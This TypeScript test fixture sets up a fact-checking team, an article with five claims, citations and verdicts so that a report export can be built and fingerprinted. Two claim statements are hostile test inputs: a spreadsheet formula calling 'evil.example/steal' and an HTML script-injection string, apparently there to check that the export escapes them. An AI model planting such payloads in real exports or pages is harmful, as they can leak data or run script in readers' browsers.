import { saveImport } from "@/lib/articles/mutations";
import { saveImportSchema } from "@/lib/articles/schema";
import { addCitation } from "@/lib/citations/mutations";
import { addCitationSchema } from "@/lib/citations/schema";
import { createClaim, updateClaimStatement } from "@/lib/claims/mutations";
import type { Db } from "@/lib/config/prisma-client";
import { createTeam } from "@/lib/teams/mutations";
import { addComment } from "@/lib/verification/comments";
import { giveVerdict, setClaimStatus, signOffVerdict } from "@/lib/verification/mutations";
import { verificationSettingsSchema } from "@/lib/verification/schema";
import { updateVerificationSettings } from "@/lib/verification/settings-mutations";
import { createTestUser } from "@/tests/test-db";
import { buildReport } from "./build";
import type { BuildReportOptions } from "./build";
import { fingerprintReport } from "./fingerprint";
import { loadReportData } from "./queries";

export const REPORT_TEXT =
  "The Duma bill lets firms keep private armies. Kartapolov backed it. Sokov doubts it will pass. Sales rose by half. Nobody objected.";

export const HYPERLINK_STATEMENT = '=HYPERLINK("http://evil.example/steal","Click me")';
export const SCRIPT_STATEMENT = 'Nobody objected <script>alert("boo")</script> & said "fine"';

export const EXPORT_TIME = new Date("2025-05-06T09:30:00Z");

/**
 * A team that requires sign-off and calls "false" "Wrong", and one article with five claims:
 * 1 accurate and signed off, on a single origin (Insider ← Daily Beast ← Duma bill, and Reuters
 * relaying the bill), with a comment; 2 false, awaiting sign-off; 3 not checkable, signed off;
 * 4 a formula-like statement; 5 a statement with markup. Built through the app's own mutations.
 */
export async function setUpReportArticle(db: Db) {
  const owner = await createTestUser(db, { name: "Olga Owner" });
  const second = await createTestUser(db, { name: "Sam Second" });
  const team = await createTeam(db, { name: "Desk", userId: owner.id });
  await db.membership.create({ data: { teamId: team.id, userId: second.id, role: "editor" } });
  const actor = { teamId: team.id, userId: owner.id };
  const signer = { teamId: team.id, userId: second.id };
  await updateVerificationSettings(db, actor, verificationSettingsSchema.parse({ revision: 1, accurateNeeds: "origin_or_two_independent", requireSignOff: "on", label_false: "Wrong" }));
  const { articleId } = await saveImport(db, actor, saveImportSchema.parse({
    title: "Putin's private armies", outlet: "Business Insider", author: "Jane Reporter",
    url: "https://www.businessinsider.com/putin-private-armies", publishedAt: "2024-05-03", text: REPORT_TEXT, removedLines: [],
  }));
  const claimIds: string[] = [];
  for (const sentence of REPORT_TEXT.split(/(?<=\.) /)) {
    const start = REPORT_TEXT.indexOf(sentence);
    claimIds.push((await createClaim(db, actor, { articleId, start, end: start + sentence.length })).id);
  }
  const revisionOf = async (claimId: string) => (await db.claim.findUniqueOrThrow({ where: { id: claimId } })).revision;
  const cite = (claimId: string, fields: Record<string, unknown>) => addCitation(db, actor, addCitationSchema.parse({ claimId, relation: "states", ...fields }));

  const [bill, kartapolov, sokov, formula, markup] = claimIds;
  const insider = await cite(bill, { sourceName: "Business Insider", url: "https://www.businessinsider.com/putin-private-armies", archiveUrl: "https://archive.example/insider" });
  const beast = await cite(bill, { sourceName: "The Daily Beast", relaysForId: insider.id, url: "https://www.thedailybeast.com/duma" });
  const duma = await cite(bill, { sourceName: "Duma bill", sourceKind: "document", relaysForId: beast.id, isOrigin: true, passage: "Companies may keep armed units." });
  await cite(bill, { sourceName: "Reuters", relation: "corroborates", viaCitationId: duma.id, url: "https://www.reuters.com/duma" });
  await giveVerdict(db, actor, { claimId: bill, revision: await revisionOf(bill), verdict: "accurate", rationale: "The bill's text on the Duma site says exactly this." });
  await signOffVerdict(db, signer, { claimId: bill, revision: await revisionOf(bill) });
  await setClaimStatus(db, actor, { claimId: bill, revision: await revisionOf(bill), status: "done" });
  await addComment(db, actor, { claimId: bill, body: "Internal: ask the Duma press office for the bill's number." });

  await cite(kartapolov, { sourceName: "Kartapolov", sourceKind: "person", isOrigin: true });
  await giveVerdict(db, actor, { claimId: kartapolov, revision: await revisionOf(kartapolov), verdict: "false", rationale: "He said the opposite in the committee hearing." });

  await giveVerdict(db, actor, { claimId: sokov, revision: await revisionOf(sokov), verdict: "not_checkable", rationale: "A prediction about a future vote, not a fact." });
  await signOffVerdict(db, signer, { claimId: sokov, revision: await revisionOf(sokov) });

  await updateClaimStatement(db, actor, { claimId: formula, revision: await revisionOf(formula), statement: HYPERLINK_STATEMENT });
  await updateClaimStatement(db, actor, { claimId: markup, revision: await revisionOf(markup), statement: SCRIPT_STATEMENT });
  return { owner, second, team, actor, signer, articleId, claimIds, revisionOf };
}

export const DEFAULT_OPTIONS: BuildReportOptions = {
  includeHistory: true, includeComments: false, finalOnly: true, generatedAt: EXPORT_TIME, generatedBy: { name: "Olga Owner", email: "olga@example.test" },
};

/** Load, build and fingerprint, as the route does. */
export async function exportReport(db: Db, teamId: string, articleId: string, options: Partial<BuildReportOptions> = {}) {
  const merged = { ...DEFAULT_OPTIONS, ...options };
  const data = await loadReportData(db, teamId, articleId, { history: merged.includeHistory, comments: merged.includeComments });
  if (!data) throw new Error("article not found");
  return fingerprintReport(buildReport(data, merged));
}
